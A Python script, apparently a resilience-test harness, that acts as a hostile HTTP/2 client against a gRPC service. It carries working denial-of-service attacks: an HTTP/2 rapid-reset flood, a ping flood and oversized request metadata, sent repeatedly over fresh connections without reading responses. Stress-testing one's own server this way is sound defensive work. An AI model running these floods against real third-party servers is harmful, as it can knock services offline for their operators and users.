"""A peer that speaks HTTP/2 and means harm: `hostile_http2.py ADDRESS KIND`.

Attacks when it reads a line, until standard input ends; then prints as JSON what it sent, and how
often it was thrown out and came back. Frames are made beforehand: who attacks does not compute.
"""

from __future__ import annotations

import json
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable

from h2.config import H2Configuration
from h2.connection import H2Connection

RESETS = 20_000
PINGS = 20_000
METADATA_BYTES = 2**15
METADATA_CALLS = 20
PIECES = 50  # of one second


def requests(address: str) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/varserve.v1.ModelService/ReadVariable"),
        (b":authority", address.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]


def begun() -> H2Connection:
    connection = H2Connection(H2Configuration(client_side=True, header_encoding=None))
    connection.initiate_connection()
    return connection


def resets(address: str) -> bytes:
    """Streams that are opened and given up at once."""
    connection = begun()
    for _ in range(RESETS):
        stream = connection.get_next_available_stream_id()
        connection.send_headers(stream, requests(address))
        connection.reset_stream(stream)
    return connection.data_to_send()


def pings(address: str) -> bytes:
    """Pings, all of which ask for an answer."""
    connection = begun()
    for _ in range(PINGS):
        connection.ping(b"varserve")
    return connection.data_to_send()


def metadata(address: str) -> bytes:
    """Calls with more metadata than a server of gRPC takes."""
    connection = begun()
    for _ in range(METADATA_CALLS):
        stream = connection.get_next_available_stream_id()
        value = b"x" * METADATA_BYTES
        connection.send_headers(stream, [*requests(address), (b"x-much", value)])
    return connection.data_to_send()


KINDS: dict[str, Callable[[str], bytes]] = {
    "resets": resets,
    "pings": pings,
    "metadata": metadata,
}


def main(address: str, kind: str) -> None:
    data = KINDS[kind](address)
    size = -(-len(data) // PIECES)
    pieces = [data[start : start + size] for start in range(0, len(data), size)]
    host, _, port = address.rpartition(":")
    done: Counter[str] = Counter()
    stop = threading.Event()
    print("ready", flush=True)
    sys.stdin.readline()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    while not stop.is_set():
        began = time.monotonic()
        with socket.create_connection((host, int(port)), timeout=10) as peer:
            done["connections"] += 1
            # Nobody reads what comes back; what does not fit any more is the server's to hold.
            for number, piece in enumerate(pieces):
                try:
                    peer.sendall(piece)
                except OSError:
                    done["thrown out"] += 1
                    break
                done["bytes"] += len(piece)
                if stop.wait(max(0.0, began + number / PIECES - time.monotonic())):
                    break
            else:
                done["sent whole"] += 1
    print(json.dumps(done), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
